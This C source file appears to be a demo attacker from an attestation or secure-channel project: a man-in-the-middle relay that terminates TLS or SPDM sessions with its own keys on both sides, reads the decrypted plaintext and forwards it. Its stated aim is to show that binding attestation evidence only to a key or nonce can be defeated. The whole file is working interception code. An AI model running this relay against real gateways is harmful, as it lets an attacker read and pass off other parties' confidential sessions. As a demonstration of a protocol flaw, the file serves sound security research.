/* SPDX-License-Identifier: Apache-2.0 */

/*
 * The attacker of the demo: sits between two gateways, ends the session of each with a key of its
 * own, and hands every byte on, so that the genuine machine's evidence reaches the victim in a
 * session that the attacker can read. Whoever binds evidence to a key or a nonce alone falls for
 * it.
 *
 *     relay tls|spdm LISTEN-PORT TARGET-ADDRESS TARGET-PORT
 *
 * Serves one connection after the other, each in a process of its own, until it is ended.
 */

#include "channel/session.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { CHUNK = 65536 };

static void die(const char *what)
{
    fprintf(stderr, "relay: %s\n", what);
    exit(1);
}

struct side {
    struct session session;
    int fd;
    uint8_t wire[CHUNK];
};

static void begin(struct side *side, const struct session_kind *kind, enum role role,
                  const char *const *purposes)
{
    struct tls_identity *identity = NULL;
    if (tls_identity_generate(time(NULL), &identity).fault ||
        kind->open(identity, role, purposes, &side->session).fault)
        die("no session");
}

static bool send_all(struct side *side)
{
    struct session *const session = &side->session;
    for (slice out = session->kind->output(session); out.size;
         out = session->kind->output(session)) {
        const ssize_t sent = send(side->fd, out.data, out.size, MSG_NOSIGNAL);
        if (sent <= 0)
            return false;
        session->kind->sent(session, (size_t)sent);
    }
    return true;
}

static bool take(struct side *side)
{
    const ssize_t got = recv(side->fd, side->wire, sizeof side->wire, 0);
    side->session.kind->feed(&side->session, (slice){side->wire, got > 0 ? (size_t)got : 0});
    return got > 0;
}

static void shake_hands(struct side *side, const char *who)
{
    struct session *const session = &side->session;
    enum session_progress progress;
    while ((progress = session->kind->handshake(session, time(NULL))) == SESSION_AGAIN)
        if (!send_all(side) || !take(side))
            die(who);
    if (progress != SESSION_READY || !send_all(side))
        die(who);
}

/* Hands on what was read; false at an end. */
static bool hand_on(struct side *from, struct side *to)
{
    static uint8_t plaintext[CHUNK];
    enum session_progress progress;
    size_t size = 0;
    while ((progress = from->session.kind->read(&from->session, plaintext, sizeof plaintext,
                                                &size)) == SESSION_READY)
        if (to->session.kind->write(&to->session, (slice){plaintext, size}).fault || !send_all(to))
            return false;
    return progress == SESSION_AGAIN && send_all(from);
}

static void serve(const struct session_kind *kind, int fd, const struct sockaddr_in *target)
{
    static const char *const any[] = {"cix-link/1", "cix-lane/1", NULL};
    static struct side victim, genuine;
    const char *purposes[2] = {NULL, NULL};
    victim.fd = fd;
    begin(&victim, kind, ROLE_SERVER, any);
    shake_hands(&victim, "the victim does not shake hands");
    purposes[0] = kind->purpose(&victim.session);
    genuine.fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(genuine.fd, (const struct sockaddr *)target, sizeof *target) != 0)
        die("the genuine gateway is not there");
    begin(&genuine, kind, ROLE_CLIENT, purposes);
    shake_hands(&genuine, "the genuine gateway does not shake hands");
    struct pollfd ends[2] = {{victim.fd, POLLIN, 0}, {genuine.fd, POLLIN, 0}};
    bool goes_on = hand_on(&victim, &genuine) && hand_on(&genuine, &victim);
    while (goes_on && poll(ends, 2, -1) > 0) {
        if (ends[0].revents)
            goes_on = take(&victim) && hand_on(&victim, &genuine);
        if (goes_on && ends[1].revents)
            goes_on = take(&genuine) && hand_on(&genuine, &victim);
    }
    kind->close(&victim.session);
    kind->close(&genuine.session);
    (void)send_all(&victim), (void)send_all(&genuine);
    close(victim.fd);
    close(genuine.fd);
}

int main(int argc, char **argv)
{
    struct sockaddr_in here = {.sin_family = AF_INET}, target = {.sin_family = AF_INET};
    const int one = 1;
    if (argc != 5 || (strcmp(argv[1], "tls") != 0 && strcmp(argv[1], "spdm") != 0) ||
        inet_pton(AF_INET, argv[3], &target.sin_addr) != 1) {
        fprintf(stderr, "usage: relay tls|spdm LISTEN-PORT TARGET-ADDRESS TARGET-PORT\n");
        return 64;
    }
    const struct session_kind *const kind =
        session_kind_of(strcmp(argv[1], "spdm") == 0 ? CHANNEL_SPDM : CHANNEL_TLS);
    here.sin_port = htons((uint16_t)strtoul(argv[2], NULL, 10));
    target.sin_port = htons((uint16_t)strtoul(argv[4], NULL, 10));
    signal(SIGCHLD, SIG_IGN);
    signal(SIGPIPE, SIG_IGN);
    const int listener = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(listener, (struct sockaddr *)&here, sizeof here) != 0 || listen(listener, 16) != 0)
        die("cannot listen");
    for (;;) {
        const int fd = accept(listener, NULL, NULL);
        if (fd < 0)
            continue;
        if (fork() == 0) {
            close(listener);
            serve(kind, fd, &target);
            _exit(0);
        }
        close(fd);
    }
}
